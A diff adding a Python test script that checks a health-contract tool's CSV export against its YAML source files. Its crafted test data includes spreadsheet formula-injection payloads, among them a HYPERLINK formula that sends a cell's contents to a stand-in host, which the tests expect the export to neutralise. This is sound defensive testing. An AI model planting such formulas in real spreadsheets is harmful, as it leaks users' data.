@@ -1,0 +1,461 @@
+#!/usr/bin/env python3
+"""csv-check.py - holds what `cls export` writes against the YAML files.
+
+    python3 tests/csv-check.py CLS TOP      (run by tests/suite-csv.sh)
+
+Every table is read back with Python's csv module, as a spreadsheet or a
+script of a funder would, and compared with the contract read independently
+with PyYAML (through tests/oracle.py's loader, which resolves scalars the
+way cls-format(5) says): rows, columns, cells, sums of money per financeur.
+The rules checked are those of cls-export(1).  Prints one line per failure
+and exits 1, or prints how many checks passed and exits 0.
+"""
+import collections
+import csv
+import io
+import json  # JSON strings are YAML double-quoted strings
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import oracle  # noqa: E402  (the independent YAML reading)
+
+CLS, TOP = sys.argv[1], sys.argv[2]
+EXAMPLES = [os.path.join(TOP, "examples", n)
+            for n in ("pays-des-vans", "pays-cevennes")]
+fails = []
+checks = 0
+
+
+def check(cond, what):
+    global checks
+    checks += 1
+    if not cond:
+        fails.append(what)
+    return cond
+
+
+def run(args, cwd=None, user=None):
+    cmd = [CLS, "--no-cache"] + args
+    if user is not None:
+        cmd = ["setpriv", "--reuid=%d" % user, "--regid=%d" % user,
+               "--clear-groups"] + cmd
+    return subprocess.run(cmd, cwd=cwd, stdout=subprocess.PIPE,
+                          stderr=subprocess.PIPE)
+
+
+def read(data, sep=",", bom=False):
+    """Rows (dicts) and the header of CSV bytes, the way a reader sees
+    them."""
+    text = data.decode("utf-8-sig" if bom else "utf-8")
+    r = csv.reader(io.StringIO(text, newline=""), delimiter=sep)
+    rows = list(r)
+    if not rows:
+        return [], []
+    head = rows[0]
+    return [dict(zip(head, row)) for row in rows[1:]], head
+
+
+def export(args, what, status=0, **kw):
+    p = run(["export"] + args)
+    if not check(p.returncode == status, "%s: exit %d, expected %d: %s" % (
+            what, p.returncode, status, p.stderr.decode()[:300])):
+        return [], []
+    return read(p.stdout, **kw)
+
+
+def cell(text):
+    """A text as a spreadsheet must receive it: neutralised when it starts
+    like a formula (cls-export(1), Formula injection)."""
+    if text is None:
+        return ""
+    text = str(text)
+    if text and text[0] in "=+-@\t\r\n":
+        return "'" + text
+    return text
+
+
+def joined(items):
+    return cell(" ; ".join(str(i) for i in items or []))
+
+
+def num(s):
+    return float(s.replace(",", ".")) if s != "" else None
+
+
+def contract(root):
+    c, fiches = oracle.load_contract(root)
+    periode = (c["periode"]["debut"], c["periode"]["fin"])
+    for f in fiches:
+        f["__years__"] = oracle.fiche_years(f, periode)
+    fiches.sort(key=lambda f: oracle.natural_key(oracle.ident(f["id"])))
+    return c, fiches, periode
+
+
+# ---------------------------------------------------------------- tables
+
+def check_fiches(root):
+    c, fiches, periode = contract(root)
+    rows, head = export(["fiches", root], "fiches " + root)
+    check(head[:5] == ["contrat", "axe", "objectif", "fiche", "titre"],
+          "fiches: first columns %s" % head[:5])
+    check([r["fiche"] for r in rows] ==
+          [oracle.ident(f["id"]) for f in fiches],
+          "fiches %s: rows %s" % (root, [r["fiche"] for r in rows]))
+    for r, f in zip(rows, fiches):
+        w = "fiches %s %s" % (os.path.basename(root), r["fiche"])
+        check(r["contrat"] == c["nom"], w + ": contrat")
+        check(r["titre"] == cell(f["titre"]), w + ": titre")
+        check(r["axe"] == oracle.ident(f["axe"]), w + ": axe")
+        check(r["porteurs"] == joined(f.get("porteurs")), w + ": porteurs")
+        # multi-line texts come back exactly, byte for byte
+        for k in ("description", "contexte", "budget"):
+            check(r[k] == cell(f.get(k)), w + ": %s %r != %r" % (
+                k, r[k][:60], cell(f.get(k))[:60]))
+        check(r["fichier"] == f["__fichier__"], w + ": fichier")
+        years = sorted(f["__years__"])
+        check(num(r["annee_debut"]) == years[0] and
+              num(r["annee_fin"]) == years[-1], w + ": years")
+        fins = f.get("financements") or []
+        amounts = [x["montant"] for x in fins if x.get("montant") is not None]
+        check((num(r["montant"]) or 0) == sum(amounts),
+              w + ": montant %s != %s" % (r["montant"], sum(amounts)))
+        suivi = f.get("suivi") or {}
+        last = max(suivi) if suivi else None
+        check(r["suivi_annee"] == ("" if last is None else str(last)),
+              w + ": suivi_annee")
+        if last is not None:
+            check(r["statut"] == suivi[last]["statut"], w + ": statut")
+
+
+def check_financements(root):
+    c, fiches, periode = contract(root)
+    rows, head = export(["financements", root], "financements " + root)
+    check(head == ["contrat", "axe", "objectif", "fiche", "titre",
+                   "financeur", "annee", "montant", "statut", "note"],
+          "financements: header %s" % head)
+    want = [(oracle.ident(f["id"]), x["financeur"],
+             x.get("annee"), x.get("montant"), x.get("statut", "prevu"))
+            for f in fiches for x in (f.get("financements") or [])]
+    got = [(r["fiche"], r["financeur"], int(r["annee"]) if r["annee"]
+            else None, num(r["montant"]), r["statut"]) for r in rows]
+    check(got == want, "financements %s: rows differ:\n  %s\n  %s" % (
+        root, got[:3], want[:3]))
+    # the sums a funder makes, per financeur, against a hand count
+    by = collections.defaultdict(float)
+    for f in fiches:
+        for x in f.get("financements") or []:
+            by[x["financeur"]] += x.get("montant") or 0
+    sums = collections.defaultdict(float)
+    for r in rows:
+        sums[r["financeur"]] += num(r["montant"]) or 0
+    check(dict(sums) == dict(by), "financements %s: sums %s != %s" % (
+        root, dict(sums), dict(by)))
+    # --financeur, written another way, keeps that funder's rows only
+    for name, total in by.items():
+        other = name.upper() if name != name.upper() else name.lower()
+        rs, _ = export(["financements", "--financeur=" + other, root],
+                       "--financeur=" + other)
+        check(rs and all(r["financeur"] == name for r in rs),
+              "--financeur=%s: rows of others" % other)
+        check(abs(sum(num(r["montant"]) or 0 for r in rs) - total) < 1e-6,
+              "--financeur=%s: sum" % other)
+    # --year: the year's financements and those of the whole contract
+    for y in range(periode[0], periode[1] + 1):
+        rs, _ = export(["financements", "--year=%d" % y, root], "--year")
+        check(sorted((r["fiche"], r["financeur"], r["annee"]) for r in rs) ==
+              sorted((w[0], w[1], "" if w[2] is None else str(w[2]))
+                     for w in want if w[2] in (None, y)),
+              "financements --year=%d %s" % (y, root))
+
+
+def check_indicateurs(root):
+    c, fiches, periode = contract(root)
+    rows, head = export(["indicateurs", root], "indicateurs " + root)
+    for k in ("fiche", "indicateur", "annee", "valeur"):
+        check(k in head, "indicateurs: no column %s" % k)
+    want = []
+    for f in fiches:
+        for ind in f.get("indicateurs") or []:
+            years = set(f["__years__"]) | set(ind.get("valeurs") or {})
+            cible = ind.get("cible")
+            if isinstance(cible, dict) and oracle.parse_target(cible) is None:
+                years |= set(cible)
+            for y in sorted(years):
+                v = (ind.get("valeurs") or {}).get(y)
+                t = oracle.target_for(ind, y, f["__years__"])
+                want.append((oracle.ident(f["id"]), oracle.ident(ind["id"]),
+                             y, v, t, ind.get("unite")))
+    got = []
+    for r in rows:
+        v = r["valeur"]
+        try:
+            v = num(v)
+        except ValueError:
+            pass
+        t = None
+        if r["cible"] != "":
+            t = ("num", num(r["cible"]))
+        elif r["cible_min"] != "" or r["cible_max"] != "":
+            t = ("range", num(r["cible_min"]), num(r["cible_max"]))
+        got.append((r["fiche"], r["indicateur"], int(r["annee"]), v, t,
+                    r["unite"] or None))
+    check(got == want, "indicateurs %s: rows differ:\n  %s\n  %s" % (
+        root, [g for g in got if g not in want][:3],
+        [w for w in want if w not in got][:3]))
+
+
+def check_suivi(root):
+    c, fiches, periode = contract(root)
+    rows, head = export(["suivi", root], "suivi " + root)
+    want = []
+    for f in fiches:
+        suivi = f.get("suivi") or {}
+        for y in sorted(set(f["__years__"]) | set(suivi)):
+            s = suivi.get(y) or {}
+            want.append((oracle.ident(f["id"]), y, s.get("statut", ""),
+                         s.get("avancement"), cell(s.get("commentaire"))))
+    got = [(r["fiche"], int(r["annee"]), r["statut"], num(r["avancement"]),
+            r["commentaire"]) for r in rows]
+    check(got == want, "suivi %s: rows differ:\n  %s\n  %s" % (
+        root, [g for g in got if g not in want][:2],
+        [w for w in want if w not in got][:2]))
+
+
+for root in EXAMPLES:
+    check_fiches(root)
+    check_financements(root)
+    check_indicateurs(root)
+    check_suivi(root)
+
+# ------------------------------------------------------- a crafted contract
+
+tmp = tempfile.mkdtemp(prefix="cls-csv.")
+PIEGE = os.path.join(tmp, "piege")
+os.makedirs(os.path.join(PIEGE, "fiches"))
+with open(os.path.join(PIEGE, "cls.yaml"), "w", encoding="utf-8") as f:
+    f.write("""version: 1
+nom: "CLS piégé, \\"guillemets\\" ; et virgules"
+territoire: Commune d'essai
+periode: {debut: 2023, fin: 2025}
+signataires: [ARS]
+axes:
+  - id: "1"
+    titre: Axe
+""")
+TITLES = ['=HYPERLINK("http://x.example/?q="&A1;"clic")', "+1", "-2+3",
+          "@SUM(A1:A9)", "\tavec tabulation", "\rretour chariot",
+          "\nsaut de ligne", "Titre ordinaire, avec ; des \"séparateurs\""]
+DESCRIPTION = ("Ligne un, avec \"guillemets\" ; et séparateurs\n"
+               "\n  ligne indentée\r\nfin Windows\n")
+for i, title in enumerate(TITLES, 1):
+    with open(os.path.join(PIEGE, "fiches", "f%d.yaml" % i), "w",
+              encoding="utf-8") as f:
+        f.write("""id: "%d"
+titre: %s
+axe: "1"
+porteurs: [%s, Porteur B]
+description: %s
+financements:
+  - {financeur: CPAM, montant: 1000.25, annee: 2023, statut: verse}
+  - {financeur: Département, montant: 2000, statut: acquis}
+  - {financeur: CAF, montant: 0.1, annee: 2024}
+indicateurs:
+  - id: solde
+    libelle: Solde
+    type: resultat
+    cible: {min: -5, max: 2.5}
+    valeurs: {2023: -2.5, 2024: 1234567.125}
+  - id: avis
+    libelle: Avis
+    type: resultat
+    valeurs: {2023: "=1+1", 2024: "bon"}
+suivi:
+  2023:
+    statut: en_cours
+    commentaire: %s
+""" % (i, json.dumps(title), json.dumps(title), json.dumps(DESCRIPTION),
+            json.dumps("-" + DESCRIPTION)))
+p = run(["validate", PIEGE])
+check(p.returncode == 0, "the crafted contract is invalid: %s" %
+      p.stdout.decode()[:500])
+
+# injection: every risky start arrives as text, prefixed with '
+rows, _ = export(["fiches", PIEGE], "fiches piege")
+check([r["titre"] for r in rows] == [cell(t) for t in TITLES],
+      "injection: titres %r" % [r["titre"] for r in rows])
+check(all(r["titre"].startswith("'") for r in rows[:-1]),
+      "injection: a risky titre without '")
+check(rows[-1]["titre"] == TITLES[-1], "injection: ordinary titre changed")
+check([r["porteurs"] for r in rows] ==
+      [cell(t + " ; Porteur B") for t in TITLES], "injection: porteurs")
+check(all(r["description"] == DESCRIPTION for r in rows),
+      "multi-line description does not come back exactly: %r" %
+      rows[0]["description"] if rows else "")
+check(rows and rows[0]["contrat"] ==
+      'CLS piégé, "guillemets" ; et virgules', "contrat name")
+rows, _ = export(["suivi", "--year=2023", PIEGE], "suivi piege")
+check(rows and all(r["commentaire"] == "'-" + DESCRIPTION for r in rows),
+      "commentaire starting with - not neutralised or not exact")
+rows, _ = export(["indicateurs", "--year=2023", PIEGE], "indicateurs piege")
+sol = [r for r in rows if r["indicateur"] == "solde"]
+avis = [r for r in rows if r["indicateur"] == "avis"]
+check(sol and all(r["valeur"] == "-2.5" and r["cible_min"] == "-5" and
+                  r["cible_max"] == "2.5" for r in sol),
+      "negative numbers must stay numbers: %s" % sol[:1])
+check(avis and all(r["valeur"] == "'=1+1" for r in avis),
+      "a text valeur =1+1 must arrive as text: %s" % avis[:1])
+
+# --financeur: case and accents do not matter; an unknown one is exit 2
+for name, want in (("cpam", "CPAM"), ("departement", "Département"),
+                   ("DÉPARTEMENT", "Département"), ("Caf", "CAF")):
+    rows, _ = export(["financements", "--financeur=" + name, PIEGE], name)
+    check(len(rows) == len(TITLES) and
+          all(r["financeur"] == want for r in rows),
+          "--financeur=%s: %s" % (name, [r["financeur"] for r in rows]))
+    rows, _ = export(["fiches", "--financeur=" + name, PIEGE], name)
+    check(len(rows) == len(TITLES) and all(r["financeurs"] == want
+                                          for r in rows),
+          "fiches --financeur=%s" % name)
+p = run(["export", "financements", "--financeur=MSA", PIEGE])
+err = p.stderr.decode()
+check(p.returncode == 2 and p.stdout == b"" and "CPAM" in err and
+      "Département" in err, "unknown financeur: %d %r" % (p.returncode, err))
+rows, _ = export(["fiches", "--financeur=cpam", "--year=2024", PIEGE], "y")
+check(rows == [], "cpam finances nothing in 2024: %d rows" % len(rows))
+rows, _ = export(["fiches", "--financeur=departement", "--year=2024",
+                  PIEGE], "y")
+check(len(rows) == len(TITLES) and all(r["montant"] == "2000"
+                                       for r in rows),
+      "the whole-contract amount covers 2024")
+
+
+
+def record_ends(data):
+    """For each end of record (a LF outside quotes): whether a CR is
+    before it; and whether the data ends with one."""
+    in_q, prev, ends = False, 0, []
+    for ch in data:
+        if ch == 0x22:
+            in_q = not in_q
+        elif ch == 0x0A and not in_q:
+            ends.append(prev == 0x0D)
+        prev = ch
+    return ends, data.endswith(b"\n")
+
+
+# --excel, byte by byte
+p = run(["export", "financements", "--excel", EXAMPLES[0]])
+lines = p.stdout.split(b"\n")
+check(p.returncode == 0 and len(lines) > 10 and lines[-1] == b"" and
+      all(x.endswith(b"\r") and b"\r" not in x[:-1] for x in lines[:-1]),
+      "excel: every line must end with CRLF")
+check(all(x.count(b";") >= 9 for x in lines[:-1]), "excel: separators")
+p = run(["export", "financements", "--excel", PIEGE])
+b = p.stdout
+check(p.returncode == 0 and b.startswith(b"\xef\xbb\xbf"), "excel: BOM")
+ends, last = record_ends(b)
+check(len(ends) == 1 + 3 * len(TITLES) and all(ends) and last,
+      "excel: a record not ended by CRLF")
+check(lines[0] == b'\xef\xbb\xbf"contrat";"axe";"objectif";"fiche";"titre";'
+      b'"financeur";"annee";"montant";"statut";"note"\r', "excel: header")
+check(b";2023;1000,25;" in b and b";;2000;" in b and b";2024;0,1;" in b,
+      "excel: decimal comma, bare numbers")
+check(b"." not in b.replace(b"http://x.example", b""), "excel: a '.' left")
+rows, _ = read(b, sep=";", bom=True)
+check(len(rows) == 3 * len(TITLES), "excel: rows")
+p = run(["export", "indicateurs", "--excel", "--year=2023", PIEGE])
+b = p.stdout
+check(b";-2,5;" in b and b";-5;2,5;" in b, "excel: negative numbers bare")
+# records end with CRLF even when a cell holds LF (kept as written)
+p = run(["export", "fiches", "--excel", PIEGE])
+rows, _ = read(p.stdout, sep=";", bom=True)
+check(len(rows) == len(TITLES) and
+      all(r["description"] == DESCRIPTION for r in rows),
+      "excel: multi-line description")
+ends, last = record_ends(p.stdout)
+check(len(ends) == len(TITLES) + 1 and all(ends) and last,
+      "excel: a record not ended by CRLF")
+
+# --sep=, with the decimal comma: said on stderr, decimals quoted
+p = run(["export", "financements", "--excel", "--sep=,", PIEGE])
+check(p.returncode == 0 and b"warning" in p.stderr, "sep=, excel: warning")
+check(b',2023,"1000,25",' in p.stdout and b",,2000," in p.stdout,
+      "sep=, excel: quoting of numbers")
+rows, _ = read(p.stdout, sep=",", bom=True)
+check(rows and rows[0]["montant"] == "1000,25", "sep=, excel: read back")
+for sep, arg in (("\t", "--sep=tab"), ("\t", "--sep=\\t"), ("|", "--sep=|"),
+                 (";", "--sep=;")):
+    rows, head = export(["suivi", arg, PIEGE], arg, sep=sep)
+    check(head[:2] == ["contrat", "axe"] and len(rows) == 3 * len(TITLES),
+          arg)
+# the default dialect: LF, no BOM, '.'
+p = run(["export", "financements", PIEGE])
+ends, last = record_ends(p.stdout)
+check(not p.stdout.startswith(b"\xef") and not any(ends) and last and
+      len(ends) == 1 + 3 * len(TITLES) and b",1000.25," in p.stdout,
+      "default dialect")
+p = run(["export", "financements", "--bom", PIEGE])
+check(p.stdout.startswith(b'\xef\xbb\xbf"contrat",'), "--bom")
+
+# several contracts: one header, every row says its contract
+p = run(["export", "financements"] + EXAMPLES + [PIEGE])
+rows, head = read(p.stdout)
+check(p.returncode == 0 and p.stdout.count(b'"contrat"') == 1,
+      "several contracts: one header")
+names = [contract(r)[0]["nom"] for r in EXAMPLES + [PIEGE]]
+check(sorted(set(r["contrat"] for r in rows)) == sorted(names),
+      "several contracts: contrat column")
+
+# --year outside the periode; usage errors; nothing on stdout
+for args in (["suivi", "--year=2022", PIEGE], ["tableau", PIEGE],
+             ["fiches", "--bogus", PIEGE], ["fiches", "--sep=x", PIEGE],
+             [], ["fiches", "--year"]):
+    p = run(["export"] + args)
+    check(p.returncode == 2 and p.stdout == b"" and b"usage:" in p.stderr,
+          "usage error %s: %d %r" % (args, p.returncode, p.stderr[:200]))
+
+# invalid data: diagnostics on stderr, the table still on stdout, exit 1
+BAD = os.path.join(tmp, "bad")
+shutil.copytree(PIEGE, BAD)
+with open(os.path.join(BAD, "fiches", "f1.yaml"), "a") as f:
+    f.write("inconnue: 1\n")
+p = run(["export", "fiches", BAD])
+rows, _ = read(p.stdout)
+check(p.returncode == 1 and b"error" in p.stderr and len(rows) ==
+      len(TITLES) and b"error" not in p.stdout, "invalid data: %d" %
+      p.returncode)
+
+# -o: replaces a file atomically; into a read-only folder: exit 2, the
+# previous file intact, nothing left beside it
+out = os.path.join(tmp, "out")
+os.makedirs(out)
+target = os.path.join(out, "t.csv")
+with open(target, "w") as f:
+    f.write("ancien\n")
+p = run(["export", "fiches", "-o", target, PIEGE])
+with open(target, "rb") as f:
+    check(p.returncode == 0 and p.stdout == b"" and
+          f.read() == run(["export", "fiches", PIEGE]).stdout, "-o file")
+with open(target, "w") as f:
+    f.write("ancien\n")
+os.chmod(out, 0o555)
+for d in (tmp, PIEGE, os.path.join(PIEGE, "fiches")):
+    os.chmod(d, 0o755)
+user = 65534 if os.getuid() == 0 else None  # root writes anywhere
+p = run(["export", "fiches", "-o", target, PIEGE], user=user)
+with open(target) as f:
+    check(p.returncode == 2 and f.read() == "ancien\n" and
+          os.listdir(out) == ["t.csv"] and b"cannot write" in p.stderr,
+          "-o read-only: %d %r %s" % (p.returncode, p.stderr[:200],
+                                      os.listdir(out)))
+os.chmod(out, 0o755)
+shutil.rmtree(tmp)
+
+for f in fails:
+    print("FAIL", f)
+print("%d checks, %d failed" % (checks, len(fails)))
+sys.exit(1 if fails else 0)
